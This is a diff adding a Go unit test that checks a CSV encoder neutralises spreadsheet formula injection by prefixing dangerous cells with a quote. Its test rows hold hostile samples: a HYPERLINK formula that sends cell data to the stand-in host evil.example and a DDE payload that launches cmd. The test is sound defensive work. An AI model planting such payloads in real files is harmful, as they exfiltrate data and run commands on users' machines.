@@ -0,0 +1,49 @@
+package services
+
+import (
+	"bytes"
+	"encoding/csv"
+	"testing"
+)
+
+func TestCSVEncoderNeutralisesFormulas(t *testing.T) {
+	var buf bytes.Buffer
+	enc := &csvEncoder{w: csv.NewWriter(&buf)}
+	if err := enc.header([]string{"referrer", "user_agent", "city", "clicks", "is_bot"}); err != nil {
+		t.Fatal(err)
+	}
+	rows := [][]any{
+		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "@SUM(1+1)", "+cmd|' /C calc'!A0", int64(-3), false},
+		{"-2+3", "\tcmd", "\r=1", int64(7), true},
+		{"https://example.com/", "Mozilla/5.0", nil, int64(0), false},
+	}
+	for _, row := range rows {
+		if err := enc.row(row); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := enc.flush(); err != nil {
+		t.Fatal(err)
+	}
+
+	records, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := [][]string{
+		{"referrer", "user_agent", "city", "clicks", "is_bot"},
+		{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'@SUM(1+1)", "'+cmd|' /C calc'!A0", "-3", "false"},
+		{"'-2+3", "'\tcmd", "'\r=1", "7", "true"},
+		{"https://example.com/", "Mozilla/5.0", "", "0", "false"},
+	}
+	if len(records) != len(want) {
+		t.Fatalf("got %d records, want %d: %q", len(records), len(want), records)
+	}
+	for i := range want {
+		for j := range want[i] {
+			if records[i][j] != want[i][j] {
+				t.Errorf("record %d field %d = %q, want %q", i, j, records[i][j], want[i][j])
+			}
+		}
+	}
+}